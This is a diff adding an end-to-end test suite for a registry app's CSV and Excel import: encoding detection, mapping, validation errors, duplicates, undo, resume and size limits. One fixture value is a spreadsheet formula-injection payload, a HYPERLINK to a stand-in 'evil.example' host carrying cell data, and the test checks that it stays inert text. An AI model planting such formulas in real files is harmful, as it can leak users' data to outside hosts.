@@ -1,0 +1,623 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { request as httpRequest } from 'node:http';
+import { eq } from 'drizzle-orm';
+import { describeAuditEntry, IMPORT_COLUMNS_MAX } from '@registra/domain';
+import { DATABASE } from '../src/platform/database/database';
+import type { Database } from '../src/platform/database/database';
+import { imports } from '../src/import/import.schema';
+import { ImportService } from '../src/import/import.service';
+import { auditRowsOf } from './support/audit';
+import { createStaff, startTestApp } from './support/test-app';
+import type { TestApp } from './support/test-app';
+
+const FIXTURES = join(__dirname, 'fixtures', 'import');
+const fixture = (name: string) => readFileSync(join(FIXTURES, name));
+
+type Staff = Awaited<ReturnType<typeof createStaff>>;
+
+describe('import of a book from CSV or Excel', () => {
+  let t: TestApp;
+  let staff: Staff;
+
+  beforeAll(async () => {
+    t = await startTestApp({ IMPORT_MAX_BYTES: String(2 * 1024 * 1024) });
+    staff = await createStaff(t, { firstName: 'Nuala', lastName: 'Importer' });
+  });
+  afterAll(() => t.close());
+
+  const upload = (
+    kind: string,
+    body: Buffer,
+    fileName: string,
+    fields: Record<string, string> = {},
+  ) => {
+    let call = t.http.post('/api/import').set('Authorization', staff.auth).field('kind', kind);
+    for (const [name, value] of Object.entries(fields)) call = call.field(name, value);
+    return call.attach('file', body, fileName);
+  };
+  const check = (id: string, body: Record<string, unknown>) =>
+    t.http.post(`/api/import/${id}/check`).set('Authorization', staff.auth).send(body);
+  const status = (id: string) => t.http.get(`/api/import/${id}`).set('Authorization', staff.auth);
+
+  async function runToEnd(id: string) {
+    const started = await t.http.post(`/api/import/${id}/run`).set('Authorization', staff.auth);
+    expect(started.status).toBe(200);
+    for (let i = 0; i < 200; i++) {
+      const answer = await status(id);
+      if (['done', 'failed'].includes(answer.body.data.status)) return answer.body.data;
+      await new Promise((resolve) => setTimeout(resolve, 100));
+    }
+    throw new Error('The import did not finish');
+  }
+
+  const organizationsNamed = async (name: string) => {
+    const res = await t.http
+      .post('/api/organization/search')
+      .set('Authorization', staff.auth)
+      .send({ search: name, limit: 50 });
+    return res.body.data as Array<{
+      _id: string;
+      name: string;
+      cro: string | null;
+      incorporationDate: string | null;
+      financialYearEnd: string | null;
+      businessActivity: string | null;
+    }>;
+  };
+
+  describe('organizations from CSV (UTF-8 with BOM)', () => {
+    let id: string;
+
+    it('upload answers the columns, the mapping guessed from the headers and a preview', async () => {
+      const res = await upload(
+        'organizations',
+        fixture('organizations-utf8.csv'),
+        'organizations-utf8.csv',
+      );
+      expect(res.status).toBe(200);
+      id = res.body.data._id;
+      expect(res.body.data).toMatchObject({
+        format: 'csv',
+        encoding: 'utf-8',
+        delimiter: ',',
+        columns: ['Company name', 'CRO number', 'Date of incorporation', 'Business activity'],
+        mapping: {
+          'Company name': 'organization.name',
+          'CRO number': 'organization.cro',
+          'Date of incorporation': 'organization.incorporationDate',
+          'Business activity': 'organization.businessActivity',
+        },
+      });
+      expect(res.body.data.preview[0]).toMatchObject({
+        row: 2,
+        organization: {
+          name: 'Seán Ó Briain Teoranta',
+          cro: 'IMP-100001',
+          incorporationDate: '2019-03-14',
+        },
+        errors: [],
+      });
+      expect(res.body.data.preview[1].organization.name).toBe('Cáit Ní Mhaoláin, Design DAC');
+      expect((await status(id)).body.data).toMatchObject({ status: 'uploaded', progress: 0 });
+    });
+
+    it('run before the check is refused', async () => {
+      const res = await t.http.post(`/api/import/${id}/run`).set('Authorization', staff.auth);
+      expect(res.status).toBe(409);
+      expect(res.body.code).toBe('IMPORT_STATE_CONFLICT');
+    });
+
+    it('check lists errors by spreadsheet row (header = row 1) and the duplicate within the file; nothing is written', async () => {
+      const res = await check(id, { onDuplicate: 'skip' });
+      expect(res.status).toBe(200);
+      expect(res.body.data.rows).toBe(5);
+      expect(res.body.data.errors).toEqual([
+        {
+          row: 4,
+          column: 'Date of incorporation',
+          message: '"31/02/2021" is not a date written dd/MM/yyyy',
+        },
+        { row: 5, column: 'Company name', message: expect.stringMatching(/name/i) },
+      ]);
+      expect(res.body.data.duplicates).toEqual([
+        {
+          row: 6,
+          recordType: 'organization',
+          recordId: null,
+          duplicateOfRow: 2,
+          label: 'Seán Ó Briain Teoranta',
+        },
+      ]);
+      expect(await organizationsNamed('Briain Teoranta')).toEqual([]);
+      expect((await status(id)).body.data.status).toBe('checked');
+    });
+
+    it('a mapping naming an unknown column or field is refused with 400', async () => {
+      const res = await check(id, {
+        onDuplicate: 'skip',
+        mapping: { 'No such column': 'organization.name' },
+      });
+      expect(res.status).toBe(400);
+      expect(res.body.code).toBe('VALIDATION_ERROR');
+      const bad = await check(id, { onDuplicate: 'sometimes' });
+      expect(bad.status).toBe(400);
+    });
+
+    it('errors.csv lists the check errors', async () => {
+      const res = await t.http.get(`/api/import/${id}/errors.csv`).set('Authorization', staff.auth);
+      expect(res.status).toBe(200);
+      expect(res.headers['content-type']).toMatch(/text\/csv/);
+      expect(res.text).toContain('Row,Column,Message');
+      expect(res.text).toContain('4,Date of incorporation');
+    });
+
+    it('run: a background job with progress, a summary, and history saying who imported from which file', async () => {
+      const summary = await runToEnd(id);
+      expect(summary).toMatchObject({
+        status: 'done',
+        progress: 1,
+        created: 2,
+        updated: 0,
+        skipped: 1,
+        failed: 2,
+      });
+      const [sean] = await organizationsNamed('Briain Teoranta');
+      expect(sean).toMatchObject({
+        name: 'Seán Ó Briain Teoranta',
+        cro: 'IMP-100001',
+        incorporationDate: '2019-03-14',
+      });
+      const rows = await auditRowsOf(t, sean._id);
+      const lines = rows.flatMap((row) =>
+        describeAuditEntry({
+          ...row,
+          changes: null,
+          data: row.data as Record<string, unknown> | null,
+        }),
+      );
+      expect(lines).toContain('Imported from organizations-utf8.csv by Nuala Importer');
+      const errors = await t.http
+        .get(`/api/import/${id}/errors.csv`)
+        .set('Authorization', staff.auth);
+      expect(errors.text).toContain('5,Company name');
+    });
+
+    it('a finished import cannot be run or checked again', async () => {
+      expect(
+        (await t.http.post(`/api/import/${id}/run`).set('Authorization', staff.auth)).status,
+      ).toBe(409);
+      expect((await check(id, { onDuplicate: 'skip' })).status).toBe(409);
+    });
+
+    it('the history lists it, undoable for 30 days', async () => {
+      const res = await t.http.get('/api/import').set('Authorization', staff.auth);
+      expect(res.status).toBe(200);
+      const entry = res.body.data.find((item: { _id: string }) => item._id === id);
+      expect(entry).toMatchObject({
+        fileName: 'organizations-utf8.csv',
+        userName: 'Nuala Importer',
+        status: 'done',
+      });
+      const days = (Date.parse(entry.undoableUntil) - Date.parse(entry.finishedAt)) / 86_400_000;
+      expect(days).toBe(30);
+    });
+
+    it('undo deletes what it created except records changed since, which are listed', async () => {
+      const [cait] = await organizationsNamed('Mhaoláin');
+      await t.http
+        .put(`/api/organization/${cait._id}`)
+        .set('Authorization', staff.auth)
+        .send({ comments: 'Changed after the import' })
+        .expect(200);
+      const res = await t.http.post(`/api/import/${id}/undo`).set('Authorization', staff.auth);
+      expect(res.status).toBe(200);
+      expect(res.body.data).toEqual({
+        deleted: 1,
+        restored: 0,
+        leftAlone: [
+          { recordType: 'organization', recordId: cait._id, label: 'Cáit Ní Mhaoláin, Design DAC' },
+        ],
+      });
+      expect(await organizationsNamed('Briain Teoranta')).toEqual([]);
+      expect((await organizationsNamed('Mhaoláin')).length).toBe(1);
+      expect((await status(id)).body.data.status).toBe('undone');
+      expect(
+        (await t.http.post(`/api/import/${id}/undo`).set('Authorization', staff.auth)).status,
+      ).toBe(409);
+    });
+  });
+
+  describe('people from CSV in Windows-1252 (semicolons)', () => {
+    it('detects the encoding: "Seán Ó Briain" arrives intact; update restores on undo', async () => {
+      // One of them is in the book already: the update choice fills its empty fields.
+      const existing = await t.http
+        .post('/api/people')
+        .set('Authorization', staff.auth)
+        .send({ firstName: 'Aoife', lastName: 'Ní Bhriain', phone: '+353 1 555 0101' });
+      expect(existing.status).toBe(200);
+      const res = await upload(
+        'people',
+        fixture('people-windows-1252.csv'),
+        'people-windows-1252.csv',
+      );
+      expect(res.status).toBe(200);
+      expect(res.body.data).toMatchObject({ encoding: 'windows-1252', delimiter: ';' });
+      expect(res.body.data.preview[0].person).toMatchObject({
+        firstName: 'Seán',
+        lastName: 'Ó Briain',
+        birth: '1978-04-23',
+        country: 'ireland',
+      });
+      const id = res.body.data._id;
+      const checked = await check(id, { onDuplicate: 'update' });
+      expect(checked.body.data.errors).toEqual([]);
+      expect(checked.body.data.duplicates).toEqual([
+        expect.objectContaining({ row: 3, recordType: 'person', recordId: existing.body.data._id }),
+      ]);
+      const summary = await runToEnd(id);
+      expect(summary).toMatchObject({ created: 2, updated: 1, skipped: 0, failed: 0 });
+      const aoife = await t.http
+        .get(`/api/people/${existing.body.data._id}`)
+        .set('Authorization', staff.auth);
+      expect(aoife.body.data).toMatchObject({
+        mail: 'aoife@example.ie',
+        birth: '1985-11-07',
+        phone: '+353 1 555 0101',
+      });
+
+      const undone = await t.http.post(`/api/import/${id}/undo`).set('Authorization', staff.auth);
+      expect(undone.body.data).toMatchObject({ deleted: 2, restored: 1, leftAlone: [] });
+      const restored = await t.http
+        .get(`/api/people/${existing.body.data._id}`)
+        .set('Authorization', staff.auth);
+      expect(restored.body.data).toMatchObject({
+        mail: null,
+        birth: null,
+        phone: '+353 1 555 0101',
+      });
+    });
+
+    it('the encoding can be overridden (read as UTF-8 the fadas are lost, as the user asked)', async () => {
+      const res = await upload('people', fixture('people-windows-1252.csv'), 'people.csv', {
+        encoding: 'utf-8',
+      });
+      expect(res.status).toBe(200);
+      expect(res.body.data.encoding).toBe('utf-8');
+      expect(res.body.data.preview[0].person.firstName).not.toBe('Seán');
+      const checked = await check(res.body.data._id, {
+        onDuplicate: 'skip',
+        encoding: 'windows-1252',
+      });
+      expect(checked.status).toBe(200);
+      expect(checked.body.data.preview[0].person.firstName).toBe('Seán');
+    });
+  });
+
+  describe('organizations from XLSX', () => {
+    it('reads the chosen sheet, Excel dates and numbers as such, formulas as text', async () => {
+      const first = await upload(
+        'organizations',
+        fixture('companies-dates.xlsx'),
+        'companies-dates.xlsx',
+      );
+      expect(first.status).toBe(400);
+      expect(first.body.message).toMatch(/header row but no data rows/);
+
+      const res = await upload(
+        'organizations',
+        fixture('companies-dates.xlsx'),
+        'companies-dates.xlsx',
+        {
+          sheet: 'Companies',
+        },
+      );
+      expect(res.status).toBe(200);
+      expect(res.body.data).toMatchObject({
+        format: 'xlsx',
+        sheets: ['Read me', 'Companies'],
+        sheet: 'Companies',
+        mapping: {
+          'Company name': 'organization.name',
+          'CRO number': 'organization.cro',
+          Incorporated: 'organization.incorporationDate',
+          'Financial year end': 'organization.financialYearEnd',
+          Website: null,
+        },
+      });
+      expect(
+        res.body.data.preview.map((row: { organization: unknown }) => row.organization),
+      ).toEqual([
+        {
+          name: 'Beara Boats Teoranta',
+          cro: 'XLS-400001',
+          incorporationDate: '2018-06-30',
+          financialYearEnd: '2024-12-31',
+        },
+        { name: 'Cúil Aodha Crafts DAC', cro: '4000002', incorporationDate: '2021-01-15' },
+      ]);
+      const id = res.body.data._id;
+      const mapping = { ...res.body.data.mapping, Website: 'organization.businessActivity' };
+      const checked = await check(id, { onDuplicate: 'skip', mapping });
+      expect(checked.body.data).toMatchObject({ rows: 2, errors: [], duplicates: [] });
+      expect(checked.body.data.preview[0].organization.businessActivity).toBe(
+        '=HYPERLINK("https://beara.example","Site")',
+      );
+      expect(await runToEnd(id)).toMatchObject({ created: 2, failed: 0 });
+      const [beara] = await organizationsNamed('Beara Boats');
+      expect(beara).toMatchObject({
+        financialYearEnd: '2024-12-31',
+        businessActivity: '=HYPERLINK("https://beara.example","Site")',
+      });
+    });
+  });
+
+  describe('a combined file, one row per person in a company', () => {
+    it('creates each company and person once and links them with their roles and percentages', async () => {
+      const res = await upload('combined', fixture('combined-utf8.tsv'), 'combined-utf8.tsv');
+      expect(res.status).toBe(200);
+      expect(res.body.data.delimiter).toBe('\t');
+      expect(res.body.data.mapping).toEqual({
+        'Company name': 'organization.name',
+        'CRO number': 'organization.cro',
+        Director: 'person.fullName',
+        Role: 'link.roles',
+        'Shareholding %': 'link.beneficiaryPercentage',
+      });
+      const id = res.body.data._id;
+      const checked = await check(id, { onDuplicate: 'skip' });
+      expect(checked.body.data).toMatchObject({ rows: 4, errors: [], duplicates: [] });
+      expect(await runToEnd(id)).toMatchObject({ created: 4, failed: 0 });
+      const [gleann] = await organizationsNamed('Gleann Dubh');
+      const members = await t.http
+        .post('/api/linkpeopleorganization/search')
+        .set('Authorization', staff.auth)
+        .send({ organizationId: gleann._id });
+      const byName = Object.fromEntries(
+        members.body.data.map(
+          (link: {
+            peopleId: { firstName: string; lastName: string };
+            roles: string[];
+            beneficiaryPercentage: number;
+          }) => [
+            `${link.peopleId.firstName} ${link.peopleId.lastName}`,
+            [link.roles, link.beneficiaryPercentage],
+          ],
+        ),
+      );
+      expect(byName).toEqual({
+        'Máire Ní Ghallchóir': [['director', 'shareholder'], 60],
+        'Dónal Mac Giolla Phádraig': [['secretary'], 0],
+        'Siobhán de Búrca': [['shareholder'], 40],
+      });
+      const [inis] = await organizationsNamed('Inis Mór');
+      const inisMembers = await t.http
+        .post('/api/linkpeopleorganization/search')
+        .set('Authorization', staff.auth)
+        .send({ organizationId: inis._id });
+      // Máire is one person, in both companies.
+      expect(inisMembers.body.data[0].peopleId._id).toBe(
+        members.body.data.find((link: { roles: string[] }) => link.roles.includes('director'))
+          .peopleId._id,
+      );
+
+      // The same file again: every company, person and link is found in the book.
+      const again = await upload('combined', fixture('combined-utf8.tsv'), 'combined-again.tsv');
+      const second = await check(again.body.data._id, { onDuplicate: 'skip' });
+      expect(
+        second.body.data.duplicates.map(
+          (d: { row: number; recordType: string }) => `${d.row} ${d.recordType}`,
+        ),
+      ).toEqual([
+        '2 organization',
+        '2 person',
+        '2 link',
+        '3 person',
+        '3 link',
+        '4 person',
+        '4 link',
+        '5 organization',
+        '5 link',
+      ]);
+      expect(await runToEnd(again.body.data._id)).toMatchObject({ created: 0, skipped: 4 });
+    });
+
+    it('a roles file links people and organizations of the book; unknown ones are refused rows', async () => {
+      const body = Buffer.from(
+        'Company name,First Name,Last Name,Roles,Beneficiary percentage\n' +
+          'Inis Mór Fisheries Ltd,Siobhán,de Búrca,Shareholder,100\n' +
+          'Nowhere Ltd,Siobhán,de Búrca,Director,\n' +
+          'Inis Mór Fisheries Ltd,Siobhán,de Búrca,Chairman,\n',
+      );
+      const res = await upload('roles', body, 'roles.csv');
+      const id = res.body.data._id;
+      const checked = await check(id, { onDuplicate: 'update' });
+      expect(checked.body.data.errors).toEqual([
+        { row: 3, column: null, message: 'No organization "Nowhere Ltd" in the book' },
+        { row: 4, column: 'Roles', message: expect.stringMatching(/"Chairman" is not a role/) },
+      ]);
+      expect(await runToEnd(id)).toMatchObject({ created: 1, failed: 2 });
+    });
+  });
+
+  describe('bad files get clear answers and leave nothing behind', () => {
+    const refused = async (kind: string, body: Buffer, fileName: string, message: RegExp) => {
+      const before = (await t.app.get<Database>(DATABASE).select().from(imports)).length;
+      const res = await upload(kind, body, fileName);
+      expect(res.status).toBe(400);
+      expect(res.body).toMatchObject({ ok: false, code: 'VALIDATION_ERROR' });
+      expect(res.body.message).toMatch(message);
+      expect((await t.app.get<Database>(DATABASE).select().from(imports)).length).toBe(before);
+    };
+
+    it.each([
+      ['unbalanced quotes', 'unbalanced-quotes.csv', /quoted value is never closed/],
+      ['a binary file named .csv', 'binary.csv', /not a CSV text file/],
+      ['an empty file', 'empty.csv', /empty/],
+      ['a file with only headers', 'headers-only.csv', /header row but no data rows/],
+    ])('%s', async (_what, name, message) => {
+      await refused('organizations', fixture(name), name, message);
+    });
+
+    it(`more than ${IMPORT_COLUMNS_MAX} columns (1 000)`, async () => {
+      const header = Array.from({ length: 1000 }, (_, i) => `C${i}`).join(',');
+      await refused(
+        'organizations',
+        Buffer.from(`${header}\n${header}\n`),
+        'wide.csv',
+        /1000 columns; at most 200/,
+      );
+    });
+
+    it('a workbook with macros (.xlsm) and other formats', async () => {
+      await refused('organizations', fixture('companies-dates.xlsx'), 'book.xlsm', /macros/);
+      await refused('organizations', Buffer.from('x'), 'book.pdf', /Only \.csv and \.xlsx/);
+      await refused(
+        'organizations',
+        fixture('organizations-utf8.csv'),
+        'book.xlsx',
+        /not an Excel workbook/,
+      );
+    });
+
+    it('an unknown kind', async () => {
+      await refused(
+        'everything',
+        fixture('organizations-utf8.csv'),
+        'organizations.csv',
+        /kind must be/,
+      );
+    });
+
+    it('formula cells are kept as text, never evaluated', async () => {
+      const res = await upload('organizations', fixture('formula.csv'), 'formula.csv');
+      expect(res.status).toBe(200);
+      expect(res.body.data.preview[0].organization).toMatchObject({
+        name: '=HYPERLINK("http://evil.example/?x="&A1;"Click")',
+        businessActivity: '=1+1',
+      });
+    });
+
+    /** A multipart upload written by hand: declared size or chunked, the file's bytes streamed. */
+    function rawUpload(fileBytes: number, declareLength: boolean) {
+      const boundary = 'registra-import-boundary';
+      const head = Buffer.from(
+        `--${boundary}\r\nContent-Disposition: form-data; name="kind"\r\n\r\norganizations\r\n` +
+          `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="huge.csv"\r\nContent-Type: text/csv\r\n\r\n`,
+      );
+      const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
+      const line = Buffer.from('Streamed Company Ltd,IMP-999,01/01/2020\n'.repeat(1000));
+      return new Promise<{ status: number; body: string }>((resolve, reject) => {
+        const req = httpRequest(
+          new URL('/api/import', t.url),
+          {
+            method: 'POST',
+            // A connection of its own: the refused body must not be read as the next request.
+            agent: false,
+            headers: {
+              Authorization: staff.auth,
+              'Content-Type': `multipart/form-data; boundary=${boundary}`,
+              ...(declareLength
+                ? { 'Content-Length': String(head.length + fileBytes + tail.length) }
+                : {}),
+            },
+          },
+          (res) => {
+            let body = '';
+            res.on('data', (chunk) => (body += chunk));
+            res.on('end', () => {
+              req.destroy();
+              resolve({ status: res.statusCode ?? 0, body });
+            });
+          },
+        );
+        req.on('error', reject);
+        req.write(head);
+        if (declareLength) {
+          // The server answers from the declared size: no need to send 200 MB.
+          req.end();
+          return;
+        }
+        let sent = 0;
+        const pump = () => {
+          while (sent < fileBytes) {
+            sent += line.length;
+            if (!req.write(line)) return void req.once('drain', pump);
+          }
+          req.end(tail);
+        };
+        pump();
+      });
+    }
+
+    it('a 200 MB file is refused with 413 before it is read (IMPORT_MAX_BYTES)', async () => {
+      const answer = await rawUpload(200 * 1024 * 1024, true);
+      expect(answer.status).toBe(413);
+      expect(JSON.parse(answer.body).code).toBe('FILE_TOO_LARGE');
+    });
+
+    it('a file over the limit sent without a declared size is cut off with 413 while streaming', async () => {
+      const answer = await rawUpload(3 * 1024 * 1024, false);
+      expect(answer.status).toBe(413);
+      expect(JSON.parse(answer.body).code).toBe('FILE_TOO_LARGE');
+    });
+  });
+
+  describe('duplicate choices', () => {
+    it('a row may have its own choice, overriding the one for every duplicate', async () => {
+      const body = Buffer.from(
+        'Company name\nTwin Choice Ltd\nTwin Choice Limited\nTwin Choice Teoranta\n',
+      );
+      const res = await upload('organizations', body, 'twins.csv');
+      const id = res.body.data._id;
+      const checked = await check(id, { onDuplicate: 'skip', choices: { '3': 'create' } });
+      expect(checked.body.data.duplicates.map((d: { row: number }) => d.row)).toEqual([3, 4]);
+      expect(await runToEnd(id)).toMatchObject({ created: 2, skipped: 1 });
+      const bad = await check(id, { onDuplicate: 'skip', choices: { three: 'create' } });
+      expect(bad.status).toBe(400);
+    });
+  });
+
+  describe('a run interrupted by a restart', () => {
+    it('resumes after the last committed batch: nothing twice, nothing missing', async () => {
+      const lines = ['Company name,CRO number'];
+      for (let i = 1; i <= 12; i++) lines.push(`Resume Test ${i} Ltd,RES-${i}`);
+      const res = await upload('organizations', Buffer.from(lines.join('\n')), 'resume.csv');
+      const id = res.body.data._id;
+      await check(id, { onDuplicate: 'skip' });
+      // As a server stopped after writing the first 5 rows would leave it: running, 5 rows done.
+      const first = lines.slice(0, 6).join('\n');
+      const firstUpload = await upload('organizations', Buffer.from(first), 'resume-first.csv');
+      await check(firstUpload.body.data._id, { onDuplicate: 'skip' });
+      await runToEnd(firstUpload.body.data._id);
+      const db = t.app.get<Database>(DATABASE);
+      await db.update(imports).set({ status: 'running', rowsDone: 5 }).where(eq(imports.id, id));
+      expect(await t.app.get(ImportService).resumeInterrupted()).toBeGreaterThanOrEqual(1);
+      for (let i = 0; i < 100; i++) {
+        if ((await status(id)).body.data.status !== 'running') break;
+        await new Promise((resolve) => setTimeout(resolve, 100));
+      }
+      expect((await status(id)).body.data).toMatchObject({
+        status: 'done',
+        created: 7,
+        skipped: 0,
+      });
+      const found = await organizationsNamed('Resume Test');
+      expect(found.length).toBe(12);
+    });
+  });
+
+  it('every route needs a signed-in user; a bad id answers 400/404, never 500', async () => {
+    expect((await t.http.get('/api/import')).status).toBe(401);
+    expect(
+      (await t.http.get('/api/import/not-an-id').set('Authorization', staff.auth)).status,
+    ).toBe(400);
+    expect(
+      (
+        await t.http
+          .get('/api/import/00000000-0000-4000-8000-000000000000')
+          .set('Authorization', staff.auth)
+      ).status,
+    ).toBe(404);
+  });
+});
